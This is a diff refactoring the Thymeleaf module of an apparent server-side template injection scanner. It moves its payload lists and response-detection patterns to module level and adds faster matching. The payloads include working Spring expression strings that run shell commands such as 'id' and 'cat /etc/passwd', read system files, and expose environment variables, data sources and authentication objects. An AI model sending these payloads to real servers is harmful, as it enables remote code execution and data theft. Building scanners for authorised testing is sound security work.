@@ -8,11 +8,460 @@ Author: SSTI Scanner Team
 License: MIT
 """
 
-import re
+import sys
 import urllib.parse
-from typing import List, Dict, Any, Optional
+from typing import Dict, Any, Iterator, Optional, Tuple
 
-from .base import BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload
+from ._scan import _build_hyperscan_database, _hyperscan_hits, _matching, _scan_table, _text_table, hyperscan
+from .base import (
+    BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload, _ATTRIBUTE_ESCAPE_TABLE,
+    _CONFIDENCE_BY_RANK, _HTML_ESCAPE_TABLE, _JAVASCRIPT_ESCAPE_TABLE, _RANK_HIGH, _RANK_LOW,
+    _RANK_MEDIUM, _SUFFICIENT_EVIDENCE, _build_get_url, _build_post_data, _index_payloads,
+    _inject_fields,
+)
+
+
+# Thymeleaf-specific patterns for detection
+_DETECTION_PATTERNS = {
+    'math_result': [
+        r'\b49\b',  # 7*7
+        r'\b64\b',  # 8*8
+        r'\b121\b', # 11*11
+    ],
+    'object_disclosure': [
+        r'org\.thymeleaf',
+        r'org\.springframework',
+        r'java\.lang\.Object',
+        r'StandardExpressionParser',
+        r'SpringELExpressionParser',
+        r'TemplateProcessingParameters',
+    ],
+    'variable_disclosure': [
+        r'Context.*?variables',
+        r'ModelMap',
+        r'RequestContext',
+        r'LocaleContext',
+        r'WebContext',
+    ],
+    'spring_objects': [
+        r'ApplicationContext',
+        r'BeanFactory',
+        r'Environment',
+        r'ResourceLoader',
+        r'ConversionService',
+    ],
+    'el_execution': [
+        r'T\(.*?\)',  # Type expressions
+        r'#ctx',
+        r'#root',
+        r'#vars',
+        r'#locale',
+    ]
+}
+
+# Thymeleaf-specific error messages
+_THYMELEAF_ERRORS = [
+    'org.thymeleaf.exceptions',
+    'TemplateProcessingException',
+    'TemplateInputException',
+    'StandardExpressionExecutionContext',
+    'Could not parse as expression',
+    'Exception evaluating SpringEL expression',
+    'PropertyAccessException',
+    'SpelEvaluationException',
+    'EL1008E',  # Spring EL error codes
+    'EL1007E',
+    'EL1001E',
+]
+
+# Java-specific indicators (plain text, several contain '(')
+_JAVA_INDICATORS = [
+    'java.lang.Class',
+    'java.lang.Runtime',
+    'java.lang.System',
+    'java.io.File',
+    'java.util.',
+    'org.springframework',
+    'getClass()',
+    'getMethod(',
+    'invoke(',
+    'newInstance(',
+]
+
+# Context variable access
+_CONTEXT_PATTERNS = [
+    r'Context.*?variables',
+    r'WebContext',
+    r'LocaleContext',
+    r'RequestContext',
+    r'Variables.*?map',
+    r'Locale.*?object',
+]
+
+# Type expression execution
+_TYPE_PATTERNS = [
+    r'class java\.',
+    r'java\.lang\.Class',
+    r'getRuntime',
+    r'getProperty',
+    r'ProcessBuilder',
+]
+
+# Utility expression results
+_UTILITY_PATTERNS = [
+    r'TEST',  # uppercase result
+    r'test',  # lowercase result
+    r'\d{4}-\d{2}-\d{2}',  # date format
+    r'\d+\.\d+',  # formatted number
+]
+
+# Spring bean access
+_BEAN_PATTERNS = [
+    r'ApplicationContext',
+    r'BeanFactory',
+    r'Environment',
+    r'ConversionService',
+    r'DataSource',
+    r'JdbcTemplate',
+]
+
+# System property disclosure
+_SYSTEM_PROPS = [
+    'java.version',
+    'user.name',
+    'os.name',
+    'java.home',
+    'user.dir',
+]
+
+# Request object access results
+_REQUEST_PATTERNS = [
+    r'GET|POST|PUT|DELETE',  # HTTP methods
+    r'HTTP/1\.[01]',  # HTTP version
+    r'Mozilla.*?',  # User-Agent
+    r'application.*?json',  # Content types
+    r'jsessionid',  # Session ID
+]
+
+# File access results
+_FILE_PATTERNS = [
+    r'root:x:0:0',  # /etc/passwd
+    r'bin/bash',    # /etc/passwd
+    r'daemon:x:',   # /etc/passwd
+]
+
+# Every pattern is compiled once, at import.  Plain-text patterns, and the
+# leading text of the others, become substring checks, so a regex only runs
+# on responses that can match
+_DETECTION_TABLES = {category: _scan_table(patterns) for category, patterns in _DETECTION_PATTERNS.items()}
+# Error messages and Java indicators are plain text: the dots in class names
+# are literal, and unescaped, 'getMethod(' and friends are not valid regexes
+_THYMELEAF_ERROR_TABLE = _text_table(_THYMELEAF_ERRORS, caseless=True)
+_JAVA_INDICATOR_TABLE = _text_table(_JAVA_INDICATORS, caseless=True)
+_CONTEXT_PATTERN_TABLE = _scan_table(_CONTEXT_PATTERNS)
+_TYPE_PATTERN_TABLE = _scan_table(_TYPE_PATTERNS)
+_UTILITY_PATTERN_TABLE = _scan_table(_UTILITY_PATTERNS, flags=0)
+_BEAN_PATTERN_TABLE = _scan_table(_BEAN_PATTERNS)
+_REQUEST_PATTERN_TABLE = _scan_table(_REQUEST_PATTERNS)
+_FILE_PATTERN_TABLE = _scan_table(_FILE_PATTERNS, flags=0)
+_SYSTEM_PROP_TABLE = _text_table(_SYSTEM_PROPS)
+
+# Tables Hyperscan matches: (table, case-insensitive, plain text).
+# math_result is left to re (Hyperscan has no Unicode \b)
+_HYPERSCAN_TABLES = (
+    (_DETECTION_TABLES['object_disclosure'], True, False),
+    (_DETECTION_TABLES['variable_disclosure'], True, False),
+    (_DETECTION_TABLES['spring_objects'], True, False),
+    (_THYMELEAF_ERROR_TABLE, True, True),
+    (_JAVA_INDICATOR_TABLE, True, True),
+    (_CONTEXT_PATTERN_TABLE, True, False),
+    (_TYPE_PATTERN_TABLE, True, False),
+    (_UTILITY_PATTERN_TABLE, False, False),
+    (_BEAN_PATTERN_TABLE, True, False),
+    (_REQUEST_PATTERN_TABLE, True, False),
+    (_FILE_PATTERN_TABLE, False, False),
+    (_SYSTEM_PROP_TABLE, False, True),
+)
+
+# With Hyperscan installed, all of those are matched in one scan of the response
+_HYPERSCAN_DATABASE = _build_hyperscan_database(_HYPERSCAN_TABLES) if hyperscan is not None else None
+
+# Payload feature bits selecting which payload-specific indicator groups run
+_CHECK_MATH = 1 << 0
+_CHECK_CONTEXT = 1 << 1
+_CHECK_TYPE = 1 << 2
+_CHECK_UTILITY = 1 << 3
+_CHECK_BEAN = 1 << 4
+_CHECK_REQUEST = 1 << 5
+_CHECK_FILE = 1 << 6
+
+
+def _payload_checks(payload: str) -> int:
+    """Compute the indicator-group bitmask for a payload."""
+    checks = 0
+    if any(p in payload for p in ('7*7', '8*8', '11*11')):
+        checks |= _CHECK_MATH
+    if any(ctx in payload for ctx in ('#ctx', '#vars', '#locale', '#request')):
+        checks |= _CHECK_CONTEXT
+    if 'T(' in payload:
+        checks |= _CHECK_TYPE
+    if any(util in payload for util in ('#strings', '#numbers', '#dates', '#arrays')):
+        checks |= _CHECK_UTILITY
+    if '@' in payload:
+        checks |= _CHECK_BEAN
+    if '#request' in payload or '#servletContext' in payload or '#session' in payload:
+        checks |= _CHECK_REQUEST
+    if any(func in payload for func in ('File', 'FileReader', 'Files.readAllLines')):
+        checks |= _CHECK_FILE
+    return checks
+
+
+# Payload type and context names are shared by every Payload and used as
+# index keys, so keep a single interned copy of each
+_T_MATH = sys.intern("math")
+_T_CONTEXT_ACCESS = sys.intern("context_access")
+_T_SPRING_ACCESS = sys.intern("spring_access")
+_T_TYPE_EXPRESSION = sys.intern("type_expression")
+_T_REQUEST_ACCESS = sys.intern("request_access")
+_T_UTILITY = sys.intern("utility")
+_T_FILE_ACCESS = sys.intern("file_access")
+_T_CODE_EXECUTION = sys.intern("code_execution")
+_T_ATTRIBUTE = sys.intern("attribute")
+_T_FRAGMENT = sys.intern("fragment")
+_T_ERROR_TRIGGER = sys.intern("error_trigger")
+_T_ADVANCED = sys.intern("advanced")
+_C_HTML = sys.intern("html")
+_C_ATTRIBUTE = sys.intern("attribute")
+_C_URL = sys.intern("url")
+_ENGINE_NAME = sys.intern("thymeleaf")
+
+
+# Basic math operations using Spring EL
+_MATH_PAYLOADS = (
+    "${7*7}",
+    "${8*8}",
+    "${11*11}",
+    "*{7*7}",
+    "*{8*8}",
+    "[[${7*7}]]",
+    "[(${7*7})]",
+    "${T(java.lang.Math).abs(-49)}",
+    "${7 * 7}",
+    "${(7) * (7)}",
+)
+
+# Context and variable access
+_CONTEXT_PAYLOADS = (
+    "${#ctx}",
+    "${#root}",
+    "${#vars}",
+    "${#locale}",
+    "${#request}",
+    "${#response}",
+    "${#session}",
+    "${#servletContext}",
+    "*{#ctx}",
+    "*{#vars}",
+    "[[${#ctx}]]",
+    "[(${#vars})]",
+)
+
+# Spring-specific object access
+_SPRING_PAYLOADS = (
+    "${@beanName}",
+    "${@environment}",
+    "${@applicationContext}",
+    "${@conversionService}",
+    "${@messageSource}",
+    "${@resourceLoader}",
+    "${applicationContext}",
+    "${servletContext}",
+    "${@environment.getProperty('java.version')}",
+    "${@environment.getProperty('user.name')}",
+    "${@environment.getProperty('os.name')}",
+)
+
+# Type expressions (T operator)
+_TYPE_PAYLOADS = (
+    "${T(java.lang.System).getProperty('java.version')}",
+    "${T(java.lang.System).getProperty('user.name')}",
+    "${T(java.lang.System).getProperty('os.name')}",
+    "${T(java.lang.Runtime).getRuntime()}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "${T(java.lang.Runtime).getRuntime().exec('whoami')}",
+    "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
+    "${T(java.lang.Class).forName('java.lang.Runtime')}",
+    "${T(java.lang.Class).forName('java.lang.System')}",
+    "${T(java.io.File)}",
+    "${T(java.util.Scanner)}",
+)
+
+# Request/Response object access
+_REQUEST_PAYLOADS = (
+    "${#request.getMethod()}",
+    "${#request.getRequestURL()}",
+    "${#request.getServletPath()}",
+    "${#request.getContextPath()}",
+    "${#request.getQueryString()}",
+    "${#request.getHeader('User-Agent')}",
+    "${#request.getParameterNames()}",
+    "${#request.getAttributeNames()}",
+    "${#servletContext.getServerInfo()}",
+    "${#servletContext.getRealPath('/')}",
+    "${#servletContext.getInitParameterNames()}",
+    "${#session.getId()}",
+    "${#session.getAttributeNames()}",
+    "${#session.getCreationTime()}",
+)
+
+# Utility expressions
+_UTILITY_PAYLOADS = (
+    "${#strings.toUpperCase('test')}",
+    "${#strings.toLowerCase('TEST')}",
+    "${#strings.length('test')}",
+    "${#strings.substring('test',0,2)}",
+    "${#strings.contains('test','es')}",
+    "${#numbers.formatDecimal(49,0,2)}",
+    "${#dates.format(#dates.createNow(),'yyyy-MM-dd')}",
+    "${#arrays.length(new int[]{1,2,3})}",
+    "${#lists.size(#lists.toList('a,b,c'))}",
+    "${#sets.size(#sets.toSet('a,b,c'))}",
+    "${#maps.size(#maps.toMap('a=1,b=2'))}",
+)
+
+# File system access
+_FILE_PAYLOADS = (
+    "${T(java.io.File).new('/etc/passwd')}",
+    "${T(java.io.FileReader).new('/etc/passwd')}",
+    "${T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))}",
+    "${T(java.util.Scanner).new(T(java.io.File).new('/etc/passwd')).useDelimiter('\\\\Z').next()}",
+    "${T(org.apache.commons.io.IOUtils).toString(T(java.io.FileInputStream).new('/etc/passwd'))}",
+)
+
+# Command execution
+_EXEC_PAYLOADS = (
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "${T(java.lang.Runtime).getRuntime().exec('whoami')}",
+    "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
+    "${T(java.lang.Runtime).getRuntime().exec('ls -la')}",
+    "${T(java.lang.ProcessBuilder).new('id').start()}",
+    "${T(java.lang.ProcessBuilder).new('whoami').start()}",
+    "${T(java.lang.ProcessBuilder).new(T(java.util.Arrays).asList('cat','/etc/passwd')).start()}",
+)
+
+# Attribute-based payloads (th: syntax)
+_ATTRIBUTE_PAYLOADS = (
+    'th:text="${7*7}"',
+    'th:utext="${7*7}"',
+    'th:value="${7*7}"',
+    'th:attr="value=${7*7}"',
+    'th:if="${7==7}"',
+    'th:unless="${7!=7}"',
+    'th:text="${#ctx}"',
+    'th:text="${T(java.lang.System).getProperty(\'java.version\')}"',
+    'th:onclick="javascript:alert(${7*7})"',
+    'data-th-text="${7*7}"',
+    'data-th-utext="${7*7}"',
+)
+
+# Fragment expressions
+_FRAGMENT_PAYLOADS = (
+    "~{templatename}",
+    "~{templatename :: selector}",
+    "~{::selector}",
+    "~{this :: selector}",
+    "${__${T(java.lang.System).getProperty('java.version')}__}",
+)
+
+# URL-encoded payloads
+_URL_PAYLOADS = (
+    "%24%7B7%2A7%7D",  # ${7*7}
+    "%24%7B%23ctx%7D",  # ${#ctx}
+    "%24%7BT%28java.lang.System%29.getProperty%28%27java.version%27%29%7D",
+)
+
+# Error triggering for information disclosure
+_ERROR_PAYLOADS = (
+    "${undefined_variable}",
+    "${#undefined_utility.method()}",
+    "${T(undefined.class)}",
+    "${@undefined_bean}",
+    "${#ctx.undefined_method()}",
+    "*{undefined_field}",
+    "[[${undefined_expression}]]",
+    "[(${undefined_expression})]",
+    "${T(java.lang.Class).forName('undefined.class')}",
+)
+
+# Advanced exploitation techniques
+_ADVANCED_PAYLOADS = (
+    # Class loading and reflection
+    "${T(java.lang.Class).forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)}",
+    "${T(java.lang.Class).forName('java.lang.System').getMethod('getProperty',T(java.lang.String)).invoke(null,'java.version')}",
+    
+    # Spring Security access
+    "${T(org.springframework.security.core.context.SecurityContextHolder).getContext().getAuthentication()}",
+    "${@authenticationManager}",
+    "${@userDetailsService}",
+    
+    # Spring Boot actuator access
+    "${@healthEndpoint}",
+    "${@configurationPropertiesReportEndpoint}",
+    "${@environmentEndpoint}",
+    
+    # Resource loading
+    "${@resourceLoader.getResource('classpath:application.properties')}",
+    "${@resourceLoader.getResource('file:/etc/passwd')}",
+    
+    # Database access
+    "${@dataSource}",
+    "${@jdbcTemplate}",
+    "${@entityManager}",
+    
+    # Cache access
+    "${@cacheManager}",
+    
+    # Message source access
+    "${@messageSource.getMessage('test',null,#locale)}",
+    
+    # Environment properties
+    "${@environment.getActiveProfiles()}",
+    "${@environment.getDefaultProfiles()}",
+    "${@environment.getSystemProperties()}",
+    "${@environment.getSystemEnvironment()}",
+)
+
+_PAYLOAD_GROUPS = (
+    (_MATH_PAYLOADS, _T_MATH, _C_HTML, "Basic mathematical operation"),
+    (_CONTEXT_PAYLOADS, _T_CONTEXT_ACCESS, _C_HTML, "Context and variable access"),
+    (_SPRING_PAYLOADS, _T_SPRING_ACCESS, _C_HTML, "Spring Framework object access"),
+    (_TYPE_PAYLOADS, _T_TYPE_EXPRESSION, _C_HTML, "Type expression (T operator)"),
+    (_REQUEST_PAYLOADS, _T_REQUEST_ACCESS, _C_HTML, "Request/Response object access"),
+    (_UTILITY_PAYLOADS, _T_UTILITY, _C_HTML, "Utility expression"),
+    (_FILE_PAYLOADS, _T_FILE_ACCESS, _C_HTML, "File system access"),
+    (_EXEC_PAYLOADS, _T_CODE_EXECUTION, _C_HTML, "Command execution"),
+    (_ATTRIBUTE_PAYLOADS, _T_ATTRIBUTE, _C_ATTRIBUTE, "Thymeleaf attribute syntax"),
+    (_FRAGMENT_PAYLOADS, _T_FRAGMENT, _C_HTML, "Fragment expression"),
+    (_URL_PAYLOADS, _T_MATH, _C_URL, "URL-encoded payload"),
+    (_ERROR_PAYLOADS, _T_ERROR_TRIGGER, _C_HTML, "Error triggering for information disclosure"),
+    (_ADVANCED_PAYLOADS, _T_ADVANCED, _C_HTML, "Advanced Thymeleaf/Spring exploitation"),
+)
+
+# Payloads never depend on the instance; build them once per process
+_PAYLOADS: Tuple[Payload, ...] = tuple(
+    Payload(payload=payload, type=payload_type, context=context, description=description)
+    for payloads, payload_type, context, description in _PAYLOAD_GROUPS
+    for payload in payloads
+)
+
+
+# Masks for the built-in payloads are computed once; ad-hoc payloads fall
+# back to _payload_checks at analysis time.
+_PAYLOAD_CHECKS: Dict[str, int] = {p.payload: _payload_checks(p.payload) for p in _PAYLOADS}
+
+# Context and type lookups become a single dict access
+_PAYLOADS_BY_CONTEXT = _index_payloads(_PAYLOADS, 'context')
+_PAYLOADS_BY_TYPE = _index_payloads(_PAYLOADS, 'type')
 
 
 class ThymeleafEngine(BaseTemplateEngine):
@@ -25,352 +474,14 @@ class ThymeleafEngine(BaseTemplateEngine):
     
     def __init__(self, config):
         super().__init__(config)
-        self.name = "thymeleaf"
+        self.name = _ENGINE_NAME
         self.description = "Thymeleaf template engine (Spring)"
         self.payloads = self._load_payloads()
-        
-        # Thymeleaf-specific patterns for detection
-        self.detection_patterns = {
-            'math_result': [
-                r'\b49\b',  # 7*7
-                r'\b64\b',  # 8*8
-                r'\b121\b', # 11*11
-            ],
-            'object_disclosure': [
-                r'org\.thymeleaf',
-                r'org\.springframework',
-                r'java\.lang\.Object',
-                r'StandardExpressionParser',
-                r'SpringELExpressionParser',
-                r'TemplateProcessingParameters',
-            ],
-            'variable_disclosure': [
-                r'Context.*?variables',
-                r'ModelMap',
-                r'RequestContext',
-                r'LocaleContext',
-                r'WebContext',
-            ],
-            'spring_objects': [
-                r'ApplicationContext',
-                r'BeanFactory',
-                r'Environment',
-                r'ResourceLoader',
-                r'ConversionService',
-            ],
-            'el_execution': [
-                r'T\(.*?\)',  # Type expressions
-                r'#ctx',
-                r'#root',
-                r'#vars',
-                r'#locale',
-            ]
-        }
+        self.detection_patterns = _DETECTION_PATTERNS
     
-    def _load_payloads(self) -> List[Payload]:
-        """Load Thymeleaf-specific SSTI payloads."""
-        payloads = []
-        
-        # Basic math operations using Spring EL
-        math_payloads = [
-            "${7*7}",
-            "${8*8}",
-            "${11*11}",
-            "*{7*7}",
-            "*{8*8}",
-            "[[${7*7}]]",
-            "[(${7*7})]",
-            "${T(java.lang.Math).abs(-49)}",
-            "${7 * 7}",
-            "${(7) * (7)}",
-        ]
-        
-        for payload in math_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="html",
-                description="Basic mathematical operation"
-            ))
-        
-        # Context and variable access
-        context_payloads = [
-            "${#ctx}",
-            "${#root}",
-            "${#vars}",
-            "${#locale}",
-            "${#request}",
-            "${#response}",
-            "${#session}",
-            "${#servletContext}",
-            "*{#ctx}",
-            "*{#vars}",
-            "[[${#ctx}]]",
-            "[(${#vars})]",
-        ]
-        
-        for payload in context_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="context_access",
-                context="html",
-                description="Context and variable access"
-            ))
-        
-        # Spring-specific object access
-        spring_payloads = [
-            "${@beanName}",
-            "${@environment}",
-            "${@applicationContext}",
-            "${@conversionService}",
-            "${@messageSource}",
-            "${@resourceLoader}",
-            "${applicationContext}",
-            "${servletContext}",
-            "${@environment.getProperty('java.version')}",
-            "${@environment.getProperty('user.name')}",
-            "${@environment.getProperty('os.name')}",
-        ]
-        
-        for payload in spring_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="spring_access",
-                context="html",
-                description="Spring Framework object access"
-            ))
-        
-        # Type expressions (T operator)
-        type_payloads = [
-            "${T(java.lang.System).getProperty('java.version')}",
-            "${T(java.lang.System).getProperty('user.name')}",
-            "${T(java.lang.System).getProperty('os.name')}",
-            "${T(java.lang.Runtime).getRuntime()}",
-            "${T(java.lang.Runtime).getRuntime().exec('id')}",
-            "${T(java.lang.Runtime).getRuntime().exec('whoami')}",
-            "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
-            "${T(java.lang.Class).forName('java.lang.Runtime')}",
-            "${T(java.lang.Class).forName('java.lang.System')}",
-            "${T(java.io.File)}",
-            "${T(java.util.Scanner)}",
-        ]
-        
-        for payload in type_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="type_expression",
-                context="html",
-                description="Type expression (T operator)"
-            ))
-        
-        # Request/Response object access
-        request_payloads = [
-            "${#request.getMethod()}",
-            "${#request.getRequestURL()}",
-            "${#request.getServletPath()}",
-            "${#request.getContextPath()}",
-            "${#request.getQueryString()}",
-            "${#request.getHeader('User-Agent')}",
-            "${#request.getParameterNames()}",
-            "${#request.getAttributeNames()}",
-            "${#servletContext.getServerInfo()}",
-            "${#servletContext.getRealPath('/')}",
-            "${#servletContext.getInitParameterNames()}",
-            "${#session.getId()}",
-            "${#session.getAttributeNames()}",
-            "${#session.getCreationTime()}",
-        ]
-        
-        for payload in request_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="request_access",
-                context="html",
-                description="Request/Response object access"
-            ))
-        
-        # Utility expressions
-        utility_payloads = [
-            "${#strings.toUpperCase('test')}",
-            "${#strings.toLowerCase('TEST')}",
-            "${#strings.length('test')}",
-            "${#strings.substring('test',0,2)}",
-            "${#strings.contains('test','es')}",
-            "${#numbers.formatDecimal(49,0,2)}",
-            "${#dates.format(#dates.createNow(),'yyyy-MM-dd')}",
-            "${#arrays.length(new int[]{1,2,3})}",
-            "${#lists.size(#lists.toList('a,b,c'))}",
-            "${#sets.size(#sets.toSet('a,b,c'))}",
-            "${#maps.size(#maps.toMap('a=1,b=2'))}",
-        ]
-        
-        for payload in utility_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="utility",
-                context="html",
-                description="Utility expression"
-            ))
-        
-        # File system access
-        file_payloads = [
-            "${T(java.io.File).new('/etc/passwd')}",
-            "${T(java.io.FileReader).new('/etc/passwd')}",
-            "${T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))}",
-            "${T(java.util.Scanner).new(T(java.io.File).new('/etc/passwd')).useDelimiter('\\\\Z').next()}",
-            "${T(org.apache.commons.io.IOUtils).toString(T(java.io.FileInputStream).new('/etc/passwd'))}",
-        ]
-        
-        for payload in file_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="file_access",
-                context="html",
-                description="File system access"
-            ))
-        
-        # Command execution
-        exec_payloads = [
-            "${T(java.lang.Runtime).getRuntime().exec('id')}",
-            "${T(java.lang.Runtime).getRuntime().exec('whoami')}",
-            "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
-            "${T(java.lang.Runtime).getRuntime().exec('ls -la')}",
-            "${T(java.lang.ProcessBuilder).new('id').start()}",
-            "${T(java.lang.ProcessBuilder).new('whoami').start()}",
-            "${T(java.lang.ProcessBuilder).new(T(java.util.Arrays).asList('cat','/etc/passwd')).start()}",
-        ]
-        
-        for payload in exec_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="code_execution",
-                context="html",
-                description="Command execution"
-            ))
-        
-        # Attribute-based payloads (th: syntax)
-        attribute_payloads = [
-            'th:text="${7*7}"',
-            'th:utext="${7*7}"',
-            'th:value="${7*7}"',
-            'th:attr="value=${7*7}"',
-            'th:if="${7==7}"',
-            'th:unless="${7!=7}"',
-            'th:text="${#ctx}"',
-            'th:text="${T(java.lang.System).getProperty(\'java.version\')}"',
-            'th:onclick="javascript:alert(${7*7})"',
-            'data-th-text="${7*7}"',
-            'data-th-utext="${7*7}"',
-        ]
-        
-        for payload in attribute_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="attribute",
-                context="attribute",
-                description="Thymeleaf attribute syntax"
-            ))
-        
-        # Fragment expressions
-        fragment_payloads = [
-            "~{templatename}",
-            "~{templatename :: selector}",
-            "~{::selector}",
-            "~{this :: selector}",
-            "${__${T(java.lang.System).getProperty('java.version')}__}",
-        ]
-        
-        for payload in fragment_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="fragment",
-                context="html",
-                description="Fragment expression"
-            ))
-        
-        # URL-encoded payloads
-        url_payloads = [
-            "%24%7B7%2A7%7D",  # ${7*7}
-            "%24%7B%23ctx%7D",  # ${#ctx}
-            "%24%7BT%28java.lang.System%29.getProperty%28%27java.version%27%29%7D",
-        ]
-        
-        for payload in url_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="url",
-                description="URL-encoded payload"
-            ))
-        
-        # Error triggering for information disclosure
-        error_payloads = [
-            "${undefined_variable}",
-            "${#undefined_utility.method()}",
-            "${T(undefined.class)}",
-            "${@undefined_bean}",
-            "${#ctx.undefined_method()}",
-            "*{undefined_field}",
-            "[[${undefined_expression}]]",
-            "[(${undefined_expression})]",
-            "${T(java.lang.Class).forName('undefined.class')}",
-        ]
-        
-        for payload in error_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="error_trigger",
-                context="html",
-                description="Error triggering for information disclosure"
-            ))
-        
-        # Advanced exploitation techniques
-        advanced_payloads = [
-            # Class loading and reflection
-            "${T(java.lang.Class).forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)}",
-            "${T(java.lang.Class).forName('java.lang.System').getMethod('getProperty',T(java.lang.String)).invoke(null,'java.version')}",
-            
-            # Spring Security access
-            "${T(org.springframework.security.core.context.SecurityContextHolder).getContext().getAuthentication()}",
-            "${@authenticationManager}",
-            "${@userDetailsService}",
-            
-            # Spring Boot actuator access
-            "${@healthEndpoint}",
-            "${@configurationPropertiesReportEndpoint}",
-            "${@environmentEndpoint}",
-            
-            # Resource loading
-            "${@resourceLoader.getResource('classpath:application.properties')}",
-            "${@resourceLoader.getResource('file:/etc/passwd')}",
-            
-            # Database access
-            "${@dataSource}",
-            "${@jdbcTemplate}",
-            "${@entityManager}",
-            
-            # Cache access
-            "${@cacheManager}",
-            
-            # Message source access
-            "${@messageSource.getMessage('test',null,#locale)}",
-            
-            # Environment properties
-            "${@environment.getActiveProfiles()}",
-            "${@environment.getDefaultProfiles()}",
-            "${@environment.getSystemProperties()}",
-            "${@environment.getSystemEnvironment()}",
-        ]
-        
-        for payload in advanced_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="advanced",
-                context="html",
-                description="Advanced Thymeleaf/Spring exploitation"
-            ))
-        
-        return payloads
+    def _load_payloads(self) -> Tuple[Payload, ...]:
+        """Return the shared Thymeleaf SSTI payloads."""
+        return _PAYLOADS
     
     async def test_payload(self, url: str, payload: str, **kwargs) -> EngineResult:
         """
@@ -379,7 +490,8 @@ class ThymeleafEngine(BaseTemplateEngine):
         Args:
             url: Target URL
             payload: Payload to test
-            **kwargs: Additional arguments (http_client, method, data, headers)
+            **kwargs: Additional arguments (http_client, method, data, headers,
+                checks, inject_fields)
         
         Returns:
             EngineResult with test results
@@ -403,42 +515,22 @@ class ThymeleafEngine(BaseTemplateEngine):
             # Determine injection point and method
             if method.upper() == 'GET':
                 # URL parameter injection
-                if '?' in url:
-                    test_url = url.replace('INJECT', payload)
-                    if 'INJECT' not in url:
-                        # Add payload to first parameter
-                        if '=' in url:
-                            test_url = re.sub(r'(=)([^&]*)', f'\\1{payload}', url, count=1)
-                        else:
-                            test_url = f"{url}&test={payload}"
-                    else:
-                        test_url = url.replace('INJECT', payload)
-                else:
-                    test_url = f"{url}?test={payload}"
+                test_url = _build_get_url(url, payload)
                 
                 response = await http_client.get(test_url, headers=headers)
             else:
-                # POST data injection
-                if data:
-                    # Inject into existing data
-                    test_data = data.copy()
-                    if 'INJECT' in str(test_data):
-                        test_data = {k: v.replace('INJECT', payload) if isinstance(v, str) else v 
-                                   for k, v in test_data.items()}
-                    else:
-                        # Add payload to first field or create test field
-                        if test_data:
-                            first_key = next(iter(test_data))
-                            test_data[first_key] = payload
-                        else:
-                            test_data['test'] = payload
-                else:
-                    test_data = {'test': payload}
+                # POST data injection; callers testing many payloads against
+                # the same form can pass the marked fields in once
+                inject_fields = kwargs.get('inject_fields')
+                if inject_fields is None:
+                    inject_fields = _inject_fields(data)
+                test_data = _build_post_data(data, payload, inject_fields)
                 
                 response = await http_client.post(url, data=test_data, headers=headers)
             
             # Analyze the response
-            return self.analyze_response("", payload, response.get('text', ''))
+            return self.analyze_response("", payload, response.get('text', ''),
+                                         checks=kwargs.get('checks'))
             
         except Exception as e:
             return EngineResult(
@@ -450,14 +542,18 @@ class ThymeleafEngine(BaseTemplateEngine):
                 engine=self.name
             )
     
-    def analyze_response(self, original_response: str, payload: str, response: str) -> EngineResult:
+    def analyze_response(self, original_response: str, payload: str, response: str,
+                         checks: Optional[int] = None) -> EngineResult:
         """
         Analyze response for Thymeleaf SSTI indicators.
         
+        Only the first ``max_scan_bytes`` characters are scanned.
+        
         Args:
             original_response: Original response (baseline)
             payload: Payload that was sent
             response: Response to analyze
+            checks: Precomputed indicator-group bitmask for the payload
         
         Returns:
             EngineResult with analysis results
@@ -472,8 +568,13 @@ class ThymeleafEngine(BaseTemplateEngine):
                 engine=self.name
             )
         
+        response = response[:self.max_scan_bytes]
+        
+        # Lower-case once; every case-insensitive check below reuses it
+        response_lower = response.lower()
+        
         # Check for direct payload reflection (likely not vulnerable)
-        if payload in response and not any(pattern in response.lower() for pattern in ['thymeleaf', 'spring', 'java.lang']):
+        if payload in response and not any(pattern in response_lower for pattern in ('thymeleaf', 'spring', 'java.lang')):
             return EngineResult(
                 is_vulnerable=False,
                 confidence=ConfidenceLevel.LOW,
@@ -483,213 +584,116 @@ class ThymeleafEngine(BaseTemplateEngine):
                 engine=self.name
             )
         
+        if checks is None:
+            checks = _PAYLOAD_CHECKS.get(payload)
+            if checks is None:
+                checks = _payload_checks(payload)
+        
         evidence_parts = []
-        confidence = ConfidenceLevel.LOW
+        rank = _RANK_LOW
         is_vulnerable = False
         
-        # Math operation detection
-        if any(p in payload for p in ['7*7', '8*8', '11*11']):
-            for pattern in self.detection_patterns['math_result']:
-                if re.search(pattern, response):
-                    evidence_parts.append(f"Mathematical operation executed: found {pattern}")
-                    confidence = ConfidenceLevel.HIGH
-                    is_vulnerable = True
-                    break
-        
-        # Object disclosure detection
-        for pattern in self.detection_patterns['object_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Object disclosure detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
-        
-        # Variable disclosure detection
-        for pattern in self.detection_patterns['variable_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Variable disclosure detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
